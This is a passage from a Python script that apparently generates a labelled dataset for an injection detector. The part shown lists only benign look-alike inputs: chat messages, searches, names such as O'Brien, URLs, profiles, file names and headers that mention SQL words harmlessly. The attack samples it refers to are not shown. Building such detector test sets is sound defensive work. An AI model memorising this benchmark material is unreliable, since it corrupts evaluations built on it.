    ("colour", "#ff6600"), ("colour", "#F60"), ("colour", "rgb(255, 102, 0)"), ("colour", "hsl(24, 100%, 50%)"),
    ("colour", "rebeccapurple"), ("colour", "#00000080"),
    # JSON keys and column lists
    ("key", "alerts"), ("key", "units"), ("key", "name,email,created_at"), ("key", "display_name"),
    # versions
    ("version", "2.14.0-rc.1+build.5"), ("version", "v3"), ("version", "2024-05-01"), ("version", "1.0.0"),
    # user agents
    ("ua", "Jeeves/3.2 (iPhone; iOS 17.4; Scale/3.00)"), ("ua", "okhttp/4.12.0"),
    ("ua", "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 "
           "Mobile Safari/537.36"),
    # hostnames and URLs
    ("host", "app.example.com"), ("host", "xn--mnchen-3ya.de"), ("host", "mail.example.co.uk:8443"),
    ("url", "https://shop.example.com/products?sort=-price&page=2"), ("url", "https://example.com/o'brien-family"),
    ("url", "http://localhost:3000/callback"),
    # IP addresses
    ("ip", "203.0.113.10"), ("ip", "2001:db8::1"), ("ip", "203.0.113.10, 10.0.0.2"),
    # login names, passwords and codes
    ("user", "sean.obrien"), ("user", "o'brien"), ("user", "d'angelo"), ("user", "mary-jane_01"),
    ("pass", "P@ss'w0rd-2024!"), ("pass", "correct horse battery staple"), ("pass", "Tr0ub4dor&3"),
    ("pass", 's3cr3t"quote#1'), ("totp", "123456"), ("totp", "654 321"),
    # searches and statuses
    ("search", "O'Reilly books"), ("search", "rock 'n' roll"), ("search", "50% off"), ("search", "union station"),
    ("search", "drop shipping"), ("search", "select committee"), ("search", "order #1042"),
    ("status", "active"), ("status", "pending-review"),
    # JSON documents and bracketed filters
    ("mongo-doc", '{"email": "ann@example.org", "name": "Ann", "settings": {"units": "metric"}}'),
    ("mongo-doc", '{"name": "Price list", "note": "$12.50 per seat, $10 above 50 seats"}'),
    ("mongo-kv", "tags[]=sql&tags[]=nosql"), ("mongo-kv", "filter[status]=active&filter[team]=T01"),
]

CHAT = [
    "the sort param now only takes created_at or -created_at, anything else is a 400",
    "can someone check why Sean O'Brien's mail bounces? address is sean.o'brien@example.ie",
    "dates come in as 2024-05-01 or 01/05/2024 depending on the client, we normalise to ISO 8601",
    "order by updated_at desc is slow without the index, I added it in the migration",
    "we sleep 5 seconds between retries when Slack answers 429",
    "price field accepts $1,299.00 and 1.299,00 € now, parsed with babel",
    "Mongo's $ne and $gt can't get in anymore, the schema only accepts strings for email",
    "the admin login locked me out after 5 failures, can someone reset it?",
    "the union rep asked about the holiday rota, I said we'd have it by Friday",
    "can you drop the table of contents from the PDF export? it's 3 pages long",
    "the between filter in the report works: from 2024-01-01 to 2024-03-31",
    "having trouble with the group by in the monthly report, totals come out doubled",
    "the version string is 2.14.0-rc.1+build.5, the semver parser chokes on the plus",
    "iOS app sends User-Agent Jeeves/3.2 (iPhone; iOS 17.4; Scale/3.00)",
    "#ff6600 and #f60 both work as theme colours now",
    "postcodes like SW1A 1AA and 10115 both validate after the fix",
    "information_schema queries are slow on MySQL 5.7, the data dictionary in 8.0 is much better",
    "xp_cmdshell is disabled on the reporting SQL Server, checked it this morning",
    "please don't run a delete without a where clause on prod again 😅",
    "pg_sleep in the test fixture makes CI slow, let's use a fake clock",
    "select the currency from the drop-down: EUR, USD or GBP",
    "D'Angelo from finance needs an export of all invoices between March and May",
    "the LIKE search is case sensitive on Postgres, switched it to ILIKE",
    "we use parameterised queries everywhere, the ORM never concatenates",
    "who owns the stored procedure that recalculates balances every night?",
    "the CSV had a column called order, quoting it fixed the import",
    "phone numbers like +44 20 7946 0958 lose the plus in the old form, fixing",
    "time zone dropdown now shows Europe/London and America/Los_Angeles correctly",
    "the UUID in the log is 550e8400-e29b-41d4-a716-446655440000, can you trace it?",
    "benchmark results: 1.2 ms p50, 8 ms p99 for the users endpoint",
    "the hex colour picker returns #RRGGBBAA now, with alpha",
    "Or we could just cache the user list for a minute and be done with it",
    "The page size limit is 500, use offset for the rest",
    "1=1 in the query builder is just the base condition so the and-chain stays simple",
    "O'Neill and D'Souza reported that their names show up as O&#39;Neill in the emails",
    "the char limit on bios is 200, emoji count as one",
    "we moved sessions out of MySQL into Redis, the sessions table can go",
    "our DBA says waitfor delay in the sync job is gone, replaced by the scheduler",
    "exec summary: signups up 12% in May, churn flat",
    "can you update the docs with the new filter syntax, status=active&team=T01?",
]
SEARCHES = [
    "o'brien", "d'angelo", "O'Reilly", "union", "select", "drop", "order", "group", "between", "like",
    "sleep", "benchmark", "admin", "root", "null", "true", "mary-jane", "smith & sons", "rock 'n' roll",
    "50% off", "#general", "@channel", "c++", "c#", "SQL Server", "MySQL 8", "pg_dump", "group by",
    "order by date", "select all", "drop-down", "union station", "insert coin", "update profile",
    "delete account", "where is my invoice", "char", "concat", "ascii", "hex colour", "information",
    "schema", "procedure", "exec", "waitfor", "like button", "in progress", "Nuñez", "São Tomé", "Dvořák",
    "having fun", "case when", "and/or", "x or y", "-created_at", "2024-05-01", "+44 20", "EUR", "Europe/London",
]
PROSE = [
    "Customer Seán O'Brien asked to change his e-mail to sean.obrien+work@example.ie; done.",
    "Refund of $49.99 approved for order #1042 (duplicate charge on 2024-05-01).",
    "User reports that sorting by -created_at shows the oldest first on the mobile app.",
    "The union of both mailing lists was imported; duplicates were removed by e-mail address.",
    "Please select a time between 09:00 and 17:00 Europe/London for the call.",
    "Ticket: export shows prices like 1.299,00 € as 1.299 in the CSV.",
    "Dropped the legacy table after the migration; backups are kept for 30 days.",
    "The report groups by team and orders by total, descending.",
    "Caller gave postcode SW1A 1AA and phone +44 20 7946 0958, verified.",
    "D'Angelo Martinez asked whether the colour #ff6600 can be used for his team's theme.",
    "Or, if that's not possible, could we at least get the invoices for Q1?",
    "Note: the customer's UUID is 3f2b1c4e-8d9a-4b7c-9e1f-2a3b4c5d6e7f.",
    "The admin said the password must contain an apostrophe or a quote, which is unusual but allowed.",
    "Version 2.14.0 (build 5) fixes the like/unlike counter on comments.",
    "Sleep mode on the kiosk kicks in after 5 minutes of inactivity.",
    "Where the user chose a currency other than EUR, convert at the day's rate.",
]
URLS = [
    "https://shop.example.com/products?sort=-price&page=2&currency=EUR",
    "https://example.com/search?q=o%27brien&lang=en-GB",
    "https://en.wikipedia.org/wiki/SQL_injection",
    "https://calendar.example.com/event?date=2024-05-01T09:00:00Z&tz=Europe%2FLondon",
    "https://www.postgresql.org/docs/current/functions-datetime.html",
    "https://dev.mysql.com/doc/refman/8.0/en/information-schema.html",
    "https://learn.microsoft.com/en-us/sql/t-sql/language-elements/waitfor-transact-sql",
    "https://www.mongodb.com/docs/manual/reference/operator/query/ne/",
    "https://maps.example.com/?q=SW1A+1AA",
    "https://example.com/users/550e8400-e29b-41d4-a716-446655440000/profile",
    "https://docs.example.com/api#sort-and-order",
    "https://status.example.com/incidents/2024-05-01",
]
PROFILES = [
    ("Seán O'Brien", "sean.o'brien@example.ie", "+353 1 555 0100"),
    ("Marco D'Angelo", "m.dangelo@example.it", "+39 06 1234 5678"),
    ("Aoife O'Connor-Hughes", "aoife+hr@example.co.uk", "+44 20 7946 0958"),
    ("José Ñúñez", "jose.nunez@example.es", "+34 91 123 45 67"),
    ("Zoë D'Souza", "zoe.dsouza@example.in", "+91 22 1234 5678"),
    ("Mary-Jane Watson", "mj@example.com", "+1 (555) 010-0199"),
    ("Jean-Luc Lefèvre", "jl.lefevre@example.fr", "+33 1 23 45 67 89"),
    ("Siobhán Ní Bhriain", "siobhan@example.ie", "087 123 4567"),
    ("Union Street Bakery", "orders@union-street.example", "+1 415 555 0142"),
    ("Select Car Rentals", "hello@select-cars.example", "+44 161 555 0111"),
    ("Order & Chaos Games", "shop@orderandchaos.example", "+49 30 1234567"),
    ("Sleepwell Mattresses", "care@sleepwell.example", "+61 2 5550 1234"),
    ("Benchmark Realty", "info@benchmark-realty.example", "+1 212 555 0199"),
    ("Dr. Amara N'Diaye", "a.ndiaye@example.sn", "+221 33 123 45 67"),
    ("Björn Ærøskøbing", "bjorn@example.dk", "+45 32 12 34 56"),
    ("Chloé L'Écuyer", "chloe.lecuyer@example.ca", "+1 514 555 0123"),
]
UPLOAD_NAMES = [
    "O'Brien CV (final).pdf", "Q1 report [draft] v2.xlsx", "café menu – été 2024.pdf", "invoice #1042.pdf",
    "photo 2024-05-01 10.22.31.jpg", "rock 'n' roll playlist.m3u", "orders-by-date.csv", "users (1).csv",
    "D'Angelo - contract_signed.pdf", "Präsentation Größen & Preise.pptx", "budget 2024 (v3) [final].xlsx",
    "export_2024-05-01T09-30-00Z.csv", "team photo – Zoë & José.png", "union-agreement-2024.pdf",
    "select-committee-minutes.docx", "screenshot (2).png", "data; backup.tar.gz", "50% discount voucher.pdf",
]
BENIGN_HEADERS = [
    ("User-Agent", "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4) AppleWebKit/605.1.15 (KHTML, like Gecko) "
                   "Version/17.4 Safari/605.1.15"),
    ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                   "Chrome/124.0.0.0 Safari/537.36 Edg/124.0.0.0"),
    ("User-Agent", "Jeeves/3.2 (iPhone; iOS 17.4; Scale/3.00)"),
    ("User-Agent", "Dalvik/2.1.0 (Linux; U; Android 14; SM-S918B Build/UP1A.231005.007)"),
    ("User-Agent", "python-requests/2.31.0"),
    ("User-Agent", "PostmanRuntime/7.37.3"),
    ("Referer", "https://app.example.com/admin/users?page=2&sort=-created_at&order=desc"),
    ("Referer", "https://www.google.com/search?q=o%27brien+plumbing+dublin"),
    ("Referer", "https://shop.example.com/cart?currency=GBP&qty=2"),
    ("Accept-Language", "en-GB,en;q=0.9,fr;q=0.8"),
    ("Accept-Language", "zh-Hant-TW,zh;q=0.9"),
    ("X-Api-Version", "2024-05-01"),
    ("X-Api-Version", "2.14.0-rc.1+build.5"),
    ("X-Request-Id", "8f14e45f-ceea-467a-9575-6c5a4d2b9f4e"),
    ("X-Forwarded-For", "203.0.113.10, 10.0.0.2"),
    ("X-Forwarded-Host", "app.example.com"),
    ("Cookie", "session=abc123; lang=en-GB; currency=EUR; tz=Europe%2FLondon"),
    ("Cookie", "session=abc123; sort=-created_at; theme_color=%23ff6600"),
]


def _typed(prefix: str, n: int) -> Generator[dict[str, Any], None, int]:
    """Each typed value in its field, at the place the attacks' rotation gives it; returns the last number."""
    rot = _Rotation()
    for field, value in TYPED:
        real, _, name, _, _ = rot.next(field, value)
        n += 1
        yield {**SET.real(real, name, value), "id": f"{prefix}-typed-{n:04d}", "category": "benign",
               "placement": real, "sub": field}
    return n


def benign() -> Iterator[dict[str, Any]]:
    prefix = f"{NAME}-benign"
    n = yield from chat_and_bio(CHAT, prefix)
    n = yield from SET.searches(SEARCHES, prefix, n)
    n = yield from _typed(prefix, n)
    n = yield from links_and_prose(URLS, PROSE, prefix, n)
    n = yield from numbered((_json("/api/users", {"name": who, "email": mail, "phone": phone})
                             for who, mail, phone in PROFILES), f"{prefix}-profile", n, "json")
    n = yield from SET.uploads(UPLOAD_NAMES, prefix, n, UPLOAD_BODY)
    yield from SET.headers(BENIGN_HEADERS, prefix, n)


if __name__ == "__main__":
    print_records(attacks(), benign())
